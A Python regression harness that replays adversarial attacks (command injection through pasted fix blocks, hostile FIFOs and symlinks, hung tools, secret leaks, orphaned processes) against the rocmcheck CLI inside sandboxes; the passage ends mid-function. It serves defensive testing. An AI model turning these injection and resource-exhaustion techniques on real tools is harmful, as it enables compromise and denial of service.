"""Replay the hardening attacks against the installed `rocmcheck`, as a person would run it, and say which held.

    python scripts/attack_replay.py                 # both tables: every finding's reproduction, then the fresh set
    python scripts/attack_replay.py --table findings
    python scripts/attack_replay.py --only P36,F67  # some attacks by id (--list names them all)
    python scripts/attack_replay.py --fast          # one attack per class, a few seconds (tests/test_attack_replay.py)
    python scripts/attack_replay.py --keep          # keep the scratch folders (their path is printed)

Two tables. "findings" replays every reproduction of the 30 findings of an adversarial pass over rocmcheck at
7f7f697 (FINDINGS below: S3-1 ... S3-30), under the ids of the attacks that showed each (P36, I11, T20, ...).
"fresh" holds attacks of the same classes that pass never tried: other tools, fields, payloads, signals and
paths. Every attack is written out here, builds
what it needs in a scratch folder of its own (fake tools on PATH that print, hang, flood or fork; hostile files:
FIFOs, /dev/zero, symbolic-link loops, dangling links, `~user`, folders) and runs the `rocmcheck` installed next
to this Python (the venv's), with the scratch folder as the working directory.

Each run is bounded: its own session, RLIMIT_AS and RLIMIT_CORE, a wall timeout, and a watch on the resident
memory of every process below this script (the script is a child subreaper, so a process that left its
parent's session is still found). Whatever is still running after rocmcheck exited is reported (an orphan is a
failure unless the attack says otherwise) and then ended by its pid. Pasting a fix block is replayed too, in a
bash that runs as `nobody` in an empty folder with an empty PATH: every command it would run is only logged
(command_not_found_handle), so a command that came from the data shows up by name and nothing runs.

One line per attack: id, finding, held/FAILED, seconds, and what was seen; exit 1 when any attack failed.

Time here (2 shared CPU cores, no GPU, other jobs running): the whole script takes about 12 minutes (685 s for
264 attacks on 2026-12-01; the smoke-train attacks about 2 minutes of it); --table findings about 5 minutes,
--table fresh about 7, --fast about 15 seconds. Needs Linux and bash; run as root it pastes as `nobody`, and the attacks
on full and read-only file systems and on a host name need `unshare` as root (without it they print "not run"
and count as neither held nor failed).
"""

from __future__ import annotations

import argparse
import ctypes
import json
import os
import resource
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterable

REPO = Path(__file__).resolve().parents[1]
PR_SET_CHILD_SUBREAPER = 36  # <linux/prctl.h>
GIB = 1 << 30
# Per-process address space (torch on CPU maps ~0.7 GiB; a smoke-train of the bundled model ~2 GiB) and the
# resident memory of everything one attack starts, together: far below this 23 GiB machine, far above a real run.
ADDRESS_SPACE = 8 * GIB
RESIDENT_CAP = 3 * GIB
DEFAULT_LIMIT_S = 60.0
POLL_S = 0.05
NOBODY = 65534
BASH = shutil.which("bash") or "/bin/bash"
MARKER = "PWNED"  # every injection payload names it: a file or a command with it means the data ran
TRACEBACK = "Traceback (most recent call last)"
OUTPUT_KEPT = 4 * 1024 * 1024  # bytes of each stream an attack looks at


# --------------------------------------------------------------------------------------------- processes

def _become_subreaper() -> None:
    try:
        ctypes.CDLL(None, use_errno=True).prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
    except (OSError, AttributeError):
        pass


@dataclass
class Proc:
    pid: int
    ppid: int
    state: str
    pgrp: int
    session: int
    rss: int
    cmdline: str


def _process_table() -> dict[int, Proc]:
    table: dict[int, Proc] = {}
    page = os.sysconf("SC_PAGE_SIZE")
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat", "rb") as fh:
                raw = fh.read().decode("utf-8", "replace")
            fields = raw.rsplit(")", 1)[1].split()
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    cmd = fh.read(300).replace(b"\0", b" ").decode("utf-8", "replace").strip()
            except OSError:
                cmd = ""
            table[int(entry)] = Proc(int(entry), int(fields[1]), fields[0], int(fields[2]), int(fields[3]),
                                     int(fields[21]) * page, cmd or raw.split("(", 1)[1].rsplit(")", 1)[0])
        except (OSError, IndexError, ValueError):
            continue
    return table


def descendants(root: int | None = None, table: dict[int, Proc] | None = None) -> list[Proc]:
    """Every live process below root (this script by default), zombies left out."""
    root = os.getpid() if root is None else root
    table = _process_table() if table is None else table
    children: dict[int, list[int]] = {}
    for p in table.values():
        children.setdefault(p.ppid, []).append(p.pid)
    out, frontier = [], [root]
    while frontier:
        pid = frontier.pop()
        for child in children.get(pid, []):
            out.append(table[child])
            frontier.append(child)
    return [p for p in out if p.state not in ("Z", "X")]


def _reap() -> None:
    """Collect the exit status of this script's finished children (orphans it adopted as a subreaper)."""
    for p in _process_table().values():
        if p.ppid == os.getpid() and p.state in ("Z", "X"):
            try:
                os.waitpid(p.pid, os.WNOHANG)
            except ChildProcessError:
                pass


def _end(procs: Iterable[Proc]) -> None:
    for p in procs:
        try:
            os.kill(p.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


def end_everything_below() -> None:
    """SIGKILL every process below this script, by pid, until none is left (a fork while ending leaves one)."""
    for _ in range(10):
        left = descendants()
        if not left:
            break
        _end(left)
        time.sleep(0.05)
        _reap()
    _reap()


# --------------------------------------------------------------------------------------------- one run

@dataclass
class Ran:
    argv: list[str]
    rc: int | None
    out: str
    err: str
    seconds: float
    leftovers: list[str] = field(default_factory=list)
    peak_rss: int = 0
    stopped: str = ""  # "timeout" or "memory" when the script ended it
    signal_at: float | None = None  # seconds from start to the signal sent, when one was
    out_bytes: int = 0

    @property
    def after_signal_s(self) -> float | None:
        return None if self.signal_at is None else self.seconds - self.signal_at

    @property
    def both(self) -> str:
        return self.out + "\n" + self.err

    def last_line(self) -> str:
        lines = [ln for ln in self.err.strip().splitlines() if ln.strip()] or \
            [ln for ln in self.out.strip().splitlines() if ln.strip()] or ["(nothing printed)"]
        return lines[-1].strip()[:160]


def _limits(address_space: int, fsize: int | None) -> Callable[[], None]:
    def apply() -> None:
        for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGPIPE):
            signal.signal(sig, signal.SIG_DFL)
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        resource.setrlimit(resource.RLIMIT_AS, (address_space, address_space))
        if fsize is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))
    return apply


def _kept(path: Path) -> tuple[str, int]:
    try:
        size = path.stat().st_size
        with open(path, "rb") as fh:
            data = fh.read(OUTPUT_KEPT)
    except OSError:
        return "", 0
    return data.decode("utf-8", "replace"), size


def rocmcheck_exe() -> str:
    here = Path(sys.executable).with_name("rocmcheck")
    return str(here) if here.exists() else (shutil.which("rocmcheck") or "rocmcheck")


class Box:
    """One attack's scratch folder: its fakes, its hostile files, and the runs of rocmcheck inside it."""

    def __init__(self, root: Path, name: str) -> None:
        self.dir = Path(tempfile.mkdtemp(prefix=f"{name}-", dir=root))
        self.dir.chmod(0o755)  # the paste sandbox inside runs as nobody
        self.fake_dir = self.dir / "fake"
        self.site_dir = self.dir / "site"
        self.runs = 0

    # -- building
    def path(self, name: str) -> Path:
        return self.dir / name

    def write(self, name: str, content: str | bytes, mode: int | None = None) -> Path:
        path = self.dir / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
        if mode is not None:
            path.chmod(mode)
        return path

    def json(self, name: str, data: object) -> Path:
        return self.write(name, json.dumps(data))

    def fake(self, tool: str, body: str) -> Path:
        """fake/<tool>: a /bin/sh script (body after the #! line)."""
        return self.write(f"fake/{tool}", "#!/bin/sh\n" + textwrap.dedent(body).lstrip("\n"), mode=0o755)

    def fake_prints(self, tool: str, text: str, code: int = 0) -> Path:
        data = self.write(f"fake-data/{tool}.txt", text)
        return self.fake(tool, f"cat {shlex.quote(str(data))}\nexit {code}\n")

    def fake_hangs(self, tool: str, seconds: int = 301) -> Path:
        return self.fake(tool, f'trap "" TERM HUP INT\nexec sleep {seconds}\n')

    def module(self, dotted: str, code: str) -> Path:
        """site/<package>/__init__.py (or a plain module): put first on PYTHONPATH by env()."""
        parts = dotted.split(".")
        path = self.site_dir.joinpath(*parts) / "__init__.py"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(code).lstrip("\n"))
        return path

    def env(self, **extra: str) -> dict[str, str]:
        env = dict(os.environ)
        for name in ("PYTHONPATH", "ROCM_PATH", "ROCM_HOME", "HIP_PATH", "CUDA_HOME", "CUDA_PATH"):
            env.pop(name, None)
        env["PATH"] = f"{self.fake_dir}{os.pathsep}{os.environ.get('PATH', '')}"
        # This checkout's code (the entry point installed next to this Python may point at another copy), after
        # an attack's own modules.
        env["PYTHONPATH"] = os.pathsep.join(([str(self.site_dir)] if self.site_dir.exists() else []) + [str(REPO)])
        env["COLUMNS"] = "200"
        env.update(extra)
        return env

    # -- running
    def rocmcheck(self, *args: str, **kw) -> Ran:
        return self.run([rocmcheck_exe(), *args], **kw)

    def python(self, code: str, **kw) -> Ran:
        return self.run([sys.executable, "-c", textwrap.dedent(code)], **kw)

    def run(self, argv: list[str], *, env: dict[str, str] | None = None, cwd: Path | None = None,
            timeout: float = DEFAULT_LIMIT_S, stdin: str | bytes | None = None,
            send: tuple[float, int, str] | None = None, address_space: int = ADDRESS_SPACE,
            resident_cap: int = RESIDENT_CAP, fsize: int | None = None, leftovers_grace_s: float = 0.5,
            stdout_path: str | None = None, stderr_path: str | None = None,
            during: Callable[[], None] | None = None) -> Ran:
        """Run argv in a session of its own with the bounds above. send=(after_s, signal, "group"|"pid") sends a
        signal while it runs; during() is called at every poll (to look at /proc while it runs)."""
        self.runs += 1
        n = self.runs
        out_file, err_file = self.dir / f".out{n}", self.dir / f".err{n}"
        stdin_file = None
        if stdin is not None:
            stdin_file = self.write(f".in{n}", stdin)
        env = self.env() if env is None else env
        start = time.monotonic()
        with open(stdout_path or out_file, "wb") as out, open(stderr_path or err_file, "wb") as err, \
                open(stdin_file or os.devnull, "rb") as inp:
            proc = subprocess.Popen(argv, stdin=inp, stdout=out, stderr=err, env=env, cwd=cwd or self.dir,
                                    start_new_session=True, preexec_fn=_limits(address_space, fsize))
        peak, stopped, signal_at = 0, "", None
        while True:
            if proc.poll() is not None:
                break
            now = time.monotonic() - start
            if send is not None and signal_at is None and now >= send[0]:
                target = -proc.pid if send[2] == "group" else proc.pid
                try:
                    os.kill(target, send[1])
                except ProcessLookupError:
                    pass
                signal_at = now
            below = descendants()
            rss = sum(p.rss for p in below)
            peak = max(peak, rss)
            if rss > resident_cap:
                stopped = "memory"
            elif now > timeout:
                stopped = "timeout"
            if stopped:
                _end(below)
                proc.wait()
                break
            if during is not None:
                during()
            time.sleep(POLL_S)
        seconds = time.monotonic() - start
        time.sleep(leftovers_grace_s)
        _reap()
        left = [f"{p.pid} {p.cmdline[:80]}" for p in descendants()]
        end_everything_below()
        out_text, out_bytes = _kept(Path(stdout_path) if stdout_path else out_file)
        err_text, _ = _kept(Path(stderr_path) if stderr_path else err_file)
        return Ran(argv, proc.returncode, out_text, err_text, seconds, left, peak, stopped, signal_at, out_bytes)

    # -- pasting
    def paste(self, text: str) -> "Pasted":
        """Run a fix block in bash as nobody, in an empty folder, with an empty PATH: every external command is
        only logged (command_not_found_handle). Returns what it would have run and what it created."""
        self.runs += 1
        sandbox = self.dir / f"paste{self.runs}"
        (sandbox / ".empty").mkdir(parents=True)
        log = self.dir / f".paste{self.runs}.log"
        log.touch()
        for p in (sandbox, sandbox / ".empty", log):
            p.chmod(0o777)
        prelude = ('command_not_found_handle() { for a in "$@"; do printf "%s\\037" "$a"; done >> "$RC_PASTE_LOG"; '
                   'printf "\\n" >> "$RC_PASTE_LOG"; return 0; }\n')
        syntax = subprocess.run([BASH, "-n"], input=text, capture_output=True, text=True)

        def as_nobody() -> None:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)

        try:
            subprocess.run([BASH, "--noprofile", "--norc", "-s"], input=prelude + text, capture_output=True,
                           text=True, cwd=sandbox, timeout=20, preexec_fn=as_nobody if os.geteuid() == 0 else None,
                           env={"PATH": str(sandbox / ".empty"), "HOME": str(sandbox), "RC_PASTE_LOG": str(log),
                                "LC_ALL": "C", "USER": "nobody"})
        except subprocess.TimeoutExpired:
            pass
        calls = [line.split("\x1f")[:-1] for line in log.read_text(errors="replace").splitlines() if line]
        made = [str(p.relative_to(sandbox)) for p in sandbox.rglob("*") if p.name != ".empty"]
        return Pasted(text, calls, made, syntax.returncode != 0, syntax.stderr.strip())


@dataclass
class Pasted:
    text: str
    calls: list[list[str]]
    made: list[str]
    syntax_error: bool
    syntax_message: str

    def problems(self) -> list[str]:
        """What pasting the block would have done that no fix means to: a command from the data (a first word
        rocmcheck never starts a fix with), a file named by the payload, a block that does not parse."""
        from rocmcheck.fixes import COMMANDS

        out = []
        for argv in self.calls:
            if argv and (MARKER in argv[0] or argv[0] not in COMMANDS and not argv[0].startswith(("/", "./", "~/"))):
                out.append(f"pasting runs {shlex.join(argv)[:100]!r}")
        out += [f"pasting creates {name!r}" for name in self.made if MARKER in name]
        out += [f"pasting creates folder {name!r}" for name in self.made if name in ("and", "check", "writable")]
        if self.syntax_error:
            out.append(f"the block does not parse: {self.syntax_message[:100]}")
        return out


# --------------------------------------------------------------------------------------------- judging

class Outcome:
    def __init__(self, held: bool | None, seen: str) -> None:
        self.held = held  # None: could not be run here
        self.seen = seen


def held(seen: str) -> Outcome:
    return Outcome(True, seen)


def failed(seen: str) -> Outcome:
    return Outcome(False, seen)


def not_run(seen: str) -> Outcome:
    return Outcome(None, seen)


def verdict(problems: list[str], seen: str) -> Outcome:
    return failed("; ".join(problems)[:400]) if problems else held(seen)


def basic(ran: Ran, *, codes: Iterable[int] | None = None, max_s: float | None = None,
          leftovers_ok: bool = False, escapes_ok: bool = False) -> list[str]:
    """What every run must do: finish within its bounds, no traceback, no process left, no raw escape from data
    (stdout and stderr are files, so rich prints no styles of its own), an exit code among `codes`."""
    problems = []
    if ran.stopped == "memory":
        problems.append(f"stopped at the memory bound ({ran.peak_rss / GIB:.1f} GiB)")
    elif ran.stopped == "timeout":
        problems.append(f"still running after {ran.seconds:.0f} s (stopped)")
    if TRACEBACK in ran.both:
        tb = ran.both[ran.both.index(TRACEBACK):].strip().splitlines()
        problems.append(f"traceback: {tb[-1][:120] if tb else ''}")
    if "MemoryError" in ran.err:
        problems.append("MemoryError")
    if ran.leftovers and not leftovers_ok:
        problems.append(f"{len(ran.leftovers)} process(es) left running: {ran.leftovers[0]}")
    if not escapes_ok and "\x1b" in ran.both:
        problems.append("an escape sequence reached the output")
    if codes is not None and not ran.stopped and ran.rc not in set(codes):
        problems.append(f"exit {ran.rc} (expected {'/'.join(map(str, codes))}): {ran.last_line()}")
    if max_s is not None and not ran.stopped and ran.seconds > max_s:
        problems.append(f"took {ran.seconds:.1f} s (bound {max_s:.0f} s)")
    return problems


def refused(ran: Ran, *, max_s: float = 30, words: Iterable[str] = ()) -> list[str]:
    """Bad input: one line on stderr, exit 2, no traceback, quickly."""
    problems = basic(ran, codes=(2,), max_s=max_s)
    lines = [ln for ln in ran.err.strip().splitlines() if ln.strip()]
    if not problems and len(lines) != 1:
        problems.append(f"{len(lines)} lines on stderr: {lines[:2]}")
    for word in words:
        if word.lower() not in ran.err.lower():
            problems.append(f"the line does not say {word!r}: {ran.last_line()}")
    return problems


def leaks(texts: Iterable[str], secrets: Iterable[str]) -> list[str]:
    found = []
    joined = "\n".join(texts)
    for secret in secrets:
        if secret in joined:
            found.append(f"leaked {secret[:24]!r}")
    return found


def paste_block(text: str) -> str:
    """The fix block of a report: the lines under the paste heading, up to the next heading."""
    heading = "(paste a line; lines starting with # are comments):"
    if heading not in text:
        return ""
    block = text.split(heading, 1)[1]
    for stop in ("\nEdit these files:", "\nWhat to do by hand:", "\nBundle written", "\ntime:", "\nmetrics:"):
        block = block.split(stop, 1)[0]
    return block.strip("\n") + "\n"


def pasted_problems(box: Box, *texts: str) -> tuple[list[str], int]:
    """Paste each text (a whole --fixes-only output, or a report's fix block); returns (problems, lines pasted)."""
    problems, lines = [], 0
    for text in texts:
        if not text.strip():
            continue
        lines += sum(1 for ln in text.splitlines() if ln.strip() and not ln.lstrip().startswith("#"))
        problems += box.paste(text).problems()
    return problems, lines


# --------------------------------------------------------------------------------------------- registry

@dataclass
class Attack:
    table: str  # "findings" or "fresh"
    id: str
    finding: str  # S3-N this attack belongs to (fresh attacks: the class's finding)
    klass: str
    title: str
    fn: Callable[[Box], Outcome]
    fast: bool = False
    limit_s: float = 120.0  # the whole attack (its runs and its checks)
    owner: str = ""  # "train": the smoke-train area, run last


ATTACKS: list[Attack] = []
# What each finding was, in a line (the pass at 7f7f697; its reproductions are the "findings" table).
FINDINGS = {
    "S3-1": "compare's fix block ran commands taken from the bundles (host names, versions, recorded fixes)",
    "S3-2": "the rocm.install fix pasted the ROCm root unquoted",
    "S3-3": "the redactor was quadratic on one long word: the doctor stopped for minutes",
    "S3-4": "a config.json the planner could not size was loaded at LlamaConfig's defaults (25 GiB)",
    "S3-5": "SIGHUP left every child running",
    "S3-6": "lint read the model's config.json plainly: a FIFO blocked, /dev/zero had no bound",
    "S3-7": "DeepSpeed configs went on a child's command line (visible to every user)",
    "S3-8": "redaction missed URL query secrets and secrets behind another NAME=",
    "S3-9": "Ctrl-C on the doctor waited for the hung tools",
    "S3-10": "output files followed symlinks (dangling links created files outside, --force wrote through)",
    "S3-11": "smoke-train --gpus N launched N ranks whatever the machine had",
    "S3-12": "monitor --replay crashed on hostile or foreign recordings",
    "S3-13": "monitor wrote the watched command line unredacted",
    "S3-14": "a non-finite or huge size in amd-smi's JSON killed the doctor",
    "S3-15": "processes that left the tool's process group or session were left running",
    "S3-16": "a hung journalctl/dmesg cost 40 s and was blamed on permissions",
    "S3-17": "a `$` in the model folder's name lost smoke-train's report",
    "S3-18": "the smoke-train write-failure fix was not a command",
    "S3-19": "the monitor's outputs and its live line (read-only and full disks, ENOEXEC, SIGSTOP, redraw)",
    "S3-20": "a symlink loop as an output path gave a traceback",
    "S3-21": "`~user` of a user that does not exist gave a traceback",
    "S3-22": "plan --model with \"hidden_size\": null gave a traceback",
    "S3-23": "compare over time with collected_at out of range gave a traceback",
    "S3-24": "a broken user checkpoint was called a rocmcheck bug",
    "S3-25": "stdout on a full device gave a traceback",
    "S3-26": "very many recorded results made a replay take minutes",
    "S3-27": "duplicate keys in a YAML flow mapping passed lint",
    "S3-28": "lint's `deepspeed: ABSOLUTE` suggestion was not quoted YAML",
    "S3-29": "compare showed unredacted values of a bundle that was not redacted when written",
    "S3-30": "smaller ones (echoed huge values, negative timeouts, `--out dir/`, newlines in names, ...)",
    # The second pass (its bytecode-cache findings S4-1, S4-2 and S4-9 went with the cache)
    "S4-3": "secrets the redactor did not see: an option's next word, tools' -p, curl -u, netrc, a token as a URL's"
            " user, Google OAuth",
    "S4-4": "a forged doctor --summary's fix came back under rocmcheck's own Fix label, as live markdown",
    "S4-5": "invisible characters and colour codes split tokens past the redactor and reached the output",
    "S4-6": "SIGKILL, SIGQUIT or SIGUSR1 to rocmcheck left its hung tools and probe children running",
    "S4-7": "big pastes: no bound on all pastes together, rocminfo parsed once per check",
    "S4-8": "triage - with stdin closed gave a traceback",
    "S4-10": "CR-only line ends merged a paste's lines",
    "S4-11": "recipes write printed a folder name with a newline raw",
    "S4-12": "the public summary printed home folders and IP addresses",
}
CLASSES = {
    "injection": "data pasted as a command (fix blocks, eval'd output, suggested YAML)",
    "secrets": "a secret in a bundle, a report, a file written, or a command line",
    "slow": "an input that makes a command slow or never finish (long lines, many entries, hung tools)",
    "inputs": "hostile input files and values (FIFO, /dev/zero, links, ~user, deep, non-finite, damaged)",
    "outputs": "output paths (links, loops, folders, FIFOs, full and read-only disks, closed or full stdout)",
    "signals": "INT/TERM/HUP and escaped processes: nothing left running, a prompt exit",
    "resources": "memory and processes bounded before they are spent",
    "verdicts": "the right verdict and message on hostile or broken input",
    "forgery": "a paste speaking as rocmcheck: a forged summary's fix, links, mentions and HTML in the reply",
    "invisible": "invisible characters and terminal sequences that split tokens or hide text",
    "orphans": "signals rocmcheck cannot catch or did not handle (KILL, QUIT, USR1/2): no process left",
}


def attack(table: str, id: str, finding: str, klass: str, title: str, *, fast: bool = False,
           limit_s: float = 120.0, owner: str = "") -> Callable[[Callable[[Box], Outcome]], Callable[[Box], Outcome]]:
    assert klass in CLASSES, klass

    def register(fn: Callable[[Box], Outcome]) -> Callable[[Box], Outcome]:
        shown = " ".join(title.replace("\x1b", "ESC").split())  # one line, whatever the payload in it
        ATTACKS.append(Attack(table, id, finding, klass, shown, fn, fast, limit_s, owner))
        return fn
    return register


def finding(id: str, finding: str, klass: str, title: str, **kw):
    return attack("findings", id, finding, klass, title, **kw)


def fresh(id: str, finding: str, klass: str, title: str, **kw):
    return attack("fresh", id, finding, klass, title, **kw)


# --------------------------------------------------------------------------------------------- shared pieces

SCRATCH: Path | None = None  # set by main(): where every Box is made
_SHARED: dict[str, object] = {}

# A minimal rocminfo of one MI300X, with the fields an attack fills in.
ROCMINFO = """ROCk module version {rock} is loaded
=====================
HSA System Attributes
=====================
Runtime Version:         1.14
Runtime Ext Version:     1.6

==========
HSA Agents
==========
*******
Agent 1
*******
  Name:                    AMD EPYC 9654 96-Core Processor
  Marketing Name:          AMD EPYC 9654 96-Core Processor
  Vendor Name:             CPU
  Device Type:             CPU
*******
Agent 2
*******
  Name:                    gfx942
  Uuid:                    GPU-07386a321fa45d1e
  Marketing Name:          {name}
  Vendor Name:             AMD
  Node:                    1
  Device Type:             GPU
  Compute Unit:            {cus}
  BDFID:                   6912
  Pool Info:
    Pool 1
      Segment:                 GLOBAL; FLAGS: COARSE GRAINED
      Size:                    {pool}(0xbffc000) KB
*** Done ***
"""
AMD_SMI_VERSION = "AMDSMI Tool: 24.7.1+8dc45db | AMDSMI Library version: 25.1.0.0 | ROCm version: {rocm}\n"
NVIDIA_ROWS = ["0, NVIDIA H200, 143771, 580.95.05, 9.0, GPU-045eeb97-b7f7-321a-48ee-7b1f8855995a",
               "1, NVIDIA H200, 143771, 580.95.05, 9.0, GPU-2185eaba-d202-099e-c7b2-3f6718475afa"]
# The monitor's query (with a header row) and its compute-apps query, as nvidia-smi 580 prints them.
NVIDIA_MONITOR = ("index, uuid, memory.used [MiB], memory.total [MiB], power.draw [W], utilization.gpu [%], "
                  "temperature.gpu, clocks.current.sm [MHz], clocks.current.memory [MHz]\n"
                  "0, GPU-045eeb97-b7f7-321a-48ee-7b1f8855995a, 1643, 143771, 120.51, 0, 35, 1980, 3201\n")
NVIDIA_APPS = "gpu_uuid, pid, used_gpu_memory [MiB]\n"


def rocminfo_text(name: str = "AMD Instinct MI300X", rock: str = "6.8.5", cus: str = "304",
                  pool: str = "201310208") -> str:
    return ROCMINFO.format(name=name, rock=rock, cus=cus, pool=pool)


def amd_smi_static(name: str = "AMD Instinct MI300X", vram: object = 196592, driver: str = "6.8.5") -> str:
    return json.dumps([{"gpu": 0, "asic": {"market_name": name, "target_graphics_version": "gfx942",
                                           "device_id": "0x74a1"},
                        "bus": {"bdf": "0000:0c:00.0"}, "vram": {"size": {"value": vram, "unit": "MB"}},
                        "driver": {"name": "amdgpu", "version": driver}}])


def amd_machine(box: Box, *, name: str = "AMD Instinct MI300X", rock: str = "6.8.5", smi: str | None = None,
                rocm: str = "6.3.3", hipconfig: str | None = None) -> None:
    """Fake rocminfo and amd-smi (and hipconfig when given) of a one-MI300X machine."""
    box.fake_prints("rocminfo", rocminfo_text(name=name, rock=rock))
    static = box.write("fake-data/amd-smi-static.json", smi if smi is not None else amd_smi_static(name=name))
    version = box.write("fake-data/amd-smi-version.txt", AMD_SMI_VERSION.format(rocm=rocm))
    box.fake("amd-smi", f"""
        case "$1" in
          static) cat {shlex.quote(str(static))} ;;
          version) cat {shlex.quote(str(version))} ;;
          *) echo "amd-smi: $1 not faked" >&2; exit 2 ;;
        esac
        """)
    if hipconfig is not None:
        box.fake_prints("hipconfig", hipconfig)


def nvidia_machine(box: Box, rows: list[str] | None = None, monitor: str = NVIDIA_MONITOR) -> None:
    """A fake nvidia-smi: the doctor's csv query, the monitor's (with its header row) and compute-apps."""
    doctor_rows = box.write("fake-data/nvidia-rows.csv", "\n".join(rows or NVIDIA_ROWS) + "\n")
    mon = box.write("fake-data/nvidia-monitor.csv", monitor)
    apps = box.write("fake-data/nvidia-apps.csv", NVIDIA_APPS)
    box.fake("nvidia-smi", f"""
        case "$*" in
          *query-compute-apps*) cat {shlex.quote(str(apps))} ;;
          *noheader*) cat {shlex.quote(str(doctor_rows))} ;;
          *query-gpu*) cat {shlex.quote(str(mon))} ;;
          *) echo "NVIDIA-SMI 580.95.05    Driver Version: 580.95.05    CUDA Version: 13.0" ;;
        esac
        """)


def doctor(box: Box, *args: str, **kw) -> Ran:
    return box.rocmcheck("doctor", "--no-train", "--no-gpu-probes", *args, **kw)


def base_bundle() -> dict:
    """A real bundle of this machine (`doctor --no-train --no-gpu-probes --out`), made once per run."""
    if "bundle" not in _SHARED:
        box = Box(SCRATCH, "base-bundle")
        ran = doctor(box, "--out", "base.json")
        if not box.path("base.json").exists():
            raise RuntimeError(f"the base bundle was not written: {ran.last_line()}")
        _SHARED["bundle"] = json.loads(box.path("base.json").read_text())
    return json.loads(json.dumps(_SHARED["bundle"]))


def bundle_with(**changes) -> dict:
    """base_bundle() with facts changed: key path "a.b.c" (dots) -> value."""
    doc = base_bundle()
    for dotted, value in changes.items():
        target = doc["facts"]
        parts = dotted.split("__")
        for part in parts[:-1]:
            target = target.setdefault(part, {})
        target[parts[-1]] = value
    return doc


def recorded(id: str = "train.run", status: str = "fail", summary: str = "recorded", fix: object = None,
             evidence: list[str] | None = None, area: str = "train") -> dict:
    return {"id": id, "status": status, "summary": summary, "evidence": evidence or [], "fix": fix, "area": area,
            "data": {}}


def bundles_dir(box: Box, name: str, docs: list[dict]) -> Path:
    folder = box.path(name)
    folder.mkdir()
    for i, doc in enumerate(docs):
        (folder / f"n{i}.json").write_text(json.dumps(doc))
    return folder


def three_nodes(box: Box, odd: Callable[[dict], None], *, hosts: tuple[str, ...] = ("node1", "node2", "node3"),
                odd_count: int = 1) -> Path:
    """Three bundles of this machine under box/cmp, the last odd_count changed by odd(doc)."""
    docs = []
    for i, host in enumerate(hosts):
        doc = base_bundle()
        doc["facts"]["platform"]["node"] = host
        if i >= len(hosts) - odd_count:
            odd(doc)
        docs.append(doc)
    return bundles_dir(box, "cmp", docs)


def set_torch(doc: dict, version: str) -> None:
    doc["facts"]["packages"]["torch"] = version
    doc["facts"]["probes"]["torch"]["version"] = version


def compare_pastes(box: Box, folder: Path, *extra: str) -> Outcome:
    """compare FOLDER; the fix block pasted: no command from the data may run."""
    ran = box.rocmcheck("compare", str(folder), *extra)
    problems = basic(ran, codes=(0, 1))
    pasted, lines = pasted_problems(box, paste_block(ran.out))
    return verdict(problems + pasted, f"exit {ran.rc}; {lines} fix line(s) pasted, nothing from the data ran")


def doctor_pastes(box: Box, *args: str, env: dict[str, str] | None = None, codes=(0, 1, 3)) -> Outcome:
    """doctor --fixes-only ARGS: the script it prints, pasted: no command from the data may run."""
    ran = doctor(box, *args, "--fixes-only", env=env)
    problems = basic(ran, codes=codes)
    pasted, lines = pasted_problems(box, ran.out)
    return verdict(problems + pasted, f"exit {ran.rc}; {lines} fix line(s) pasted, nothing from the data ran")


def replay_pastes(box: Box, doc: dict, *args: str) -> Outcome:
    """doctor --bundle B --fixes-only: pasted, no command from the bundle may run."""
    box.json("b.json", doc)
    ran = box.rocmcheck("doctor", "--bundle", "b.json", "--fixes-only", *args)
    problems = basic(ran, codes=(0, 1, 3))
    pasted, lines = pasted_problems(box, ran.out)
    return verdict(problems + pasted, f"exit {ran.rc}; {lines} fix line(s) pasted, nothing from the bundle ran")


def mkfifo(box: Box, name: str) -> Path:
    path = box.path(name)
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)
    return path


def symlink(box: Box, name: str, target: str | Path) -> Path:
    path = box.path(name)
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)
    return path


def deep_json(depth: int = 100_000) -> str:
    return "[" * depth + "]" * depth


def unshare_ok() -> bool:
    if "unshare" not in _SHARED:
        ok = shutil.which("unshare") is not None and os.geteuid() == 0 and subprocess.run(
            ["unshare", "-m", "-u", "true"], capture_output=True).returncode == 0
        _SHARED["unshare"] = ok
    return bool(_SHARED["unshare"])


def in_small_mount(box: Box, folder: str, argv: list[str], *, size: str = "64k", read_only: bool = False,
                   fill: bool = False) -> list[str]:
    """argv run in a mount namespace where box/folder is a tmpfs of `size` (full when fill, read-only when
    read_only)."""
    path = box.path(folder)
    path.mkdir(exist_ok=True)
    steps = [f"mount -t tmpfs -o size={size} tmpfs {shlex.quote(str(path))}"]
    if fill:
        steps.append(f"head -c 100M /dev/zero > {shlex.quote(str(path / 'filler'))} 2>/dev/null")
    if read_only:
        steps.append(f"mount -o remount,ro {shlex.quote(str(path))}")
    steps.append("exec " + shlex.join(argv))
    return ["unshare", "-m", "sh", "-c", " && ".join(steps[:1]) + "; " + "; ".join(steps[1:])]


TINY_MODEL = REPO / "rocmcheck" / "train" / "assets" / "tiny-llama"


def tiny_model(box: Box, name: str = "m") -> Path:
    """A copy of the bundled tiny LLaMA (the model smoke-train uses by default)."""
    dest = box.path(name)
    shutil.copytree(TINY_MODEL, dest)
    return dest


def amd_bundle() -> dict:
    """A bundle of the fake one-MI300X machine (amd_machine), made once per run."""
    if "amd-bundle" not in _SHARED:
        box = Box(SCRATCH, "amd-bundle")
        amd_machine(box)
        doctor(box, "--out", "amd.json")
        _SHARED["amd-bundle"] = json.loads(box.path("amd.json").read_text())
    return json.loads(json.dumps(_SHARED["amd-bundle"]))


def recording(host: object = "h1", rows: int = 60, **over) -> str:
    """memory-<host>.jsonl as the monitor writes it: one GPU, a flat curve."""
    lines = []
    for i in range(rows):
